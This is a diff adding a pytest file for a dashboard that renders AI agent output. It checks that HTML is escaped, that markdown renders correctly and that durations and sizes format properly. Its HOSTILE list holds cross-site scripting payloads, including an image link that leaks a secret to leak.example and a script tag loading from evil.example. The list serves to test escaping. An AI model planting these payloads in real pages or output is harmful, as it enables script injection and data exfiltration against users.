@@ -1,0 +1,98 @@
+from html.parser import HTMLParser
+
+import pytest
+
+from airut_dashboard.model import Change
+from airut_dashboard.render import Renderer, duration, markdown, size, tool_summary
+
+
+class Elements(HTMLParser):
+    """The tags, attribute names and links that a browser would see."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.names: set[str] = set()
+        self.attributes: set[str] = set()
+        self.links: list[str] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag, attrs) -> None:
+        self.names.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[x](javascript:alert(1))",
+    "![x](https://leak.example/?secret)",
+    '<a href="data:text/html,x">x</a>',
+    "<style>*{display:none}</style>",
+    "</li></ol><script src=//evil.example></script>",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize(
+    "kind", ["text", "prompt", "tool_result", "tool_use", "thinking", "unknown", "result", "system"]
+)
+def test_row_56_agent_output_is_never_markup(said, text, kind) -> None:
+    html = Renderer().output(Change(1, "t1", said(text, type=kind, tool=text, input={"command": text})))
+    found = Elements(html)
+    assert found.names <= {"li", "div", "p", "pre", "code", "b", "details", "summary", "span", "a"}
+    assert not {name for name in found.attributes if name.startswith("on")}
+    assert all(link.startswith(("http://", "https://", "mailto:")) for link in found.links)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_row_37_a_hostile_host_or_path_is_text(request_event, text) -> None:
+    html = Renderer().network_row(
+        Change(1, "t1", request_event(host=text, path=text, reason=text, method=text))
+    )
+    assert "<script" not in html
+    assert "<img" not in html
+
+
+def test_a_subject_is_escaped_in_row_and_header(state) -> None:
+    from airut_dashboard.model import ReadModel
+
+    model = ReadModel()
+    model.apply(1, state(subject="<b>x</b>", sender="<i>@x", reason=None))
+    view = model.task("t1")
+    assert "<b>x</b>" not in Renderer().task_row(view)
+    assert "&lt;b&gt;x" in Renderer().task_header(view)
+
+
+def test_markdown_keeps_what_people_read() -> None:
+    html = markdown(
+        "**bold** `code`\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.com)"
+    )
+    for expected in (
+        "<strong>bold</strong>",
+        "<code>code</code>",
+        "<li>one</li>",
+        "<td>1</td>",
+        'href="https://example.com"',
+    ):
+        assert expected in html
+
+
+def test_a_tool_call_shows_its_main_argument(said) -> None:
+    assert tool_summary(said(type="tool_use", input={"command": "ls", "timeout": 3})) == "ls"
+    assert tool_summary(said(type="tool_use", input={"odd": 1})) == '{"odd": 1}'
+
+
+@pytest.mark.parametrize(
+    ("seconds", "text"),
+    [(None, ""), (0.44, "0.4 s"), (59.2, "59 s"), (185, "3 min 05 s"), (7620, "2 h 07 min")],
+)
+def test_durations(seconds, text) -> None:
+    assert duration(seconds) == text
+
+
+@pytest.mark.parametrize(
+    ("count", "text"), [(0, "0 B"), (999, "999 B"), (1500, "1.5 kB"), (3_200_000_000, "3.2 GB")]
+)
+def test_sizes(count, text) -> None:
+    assert size(count) == text
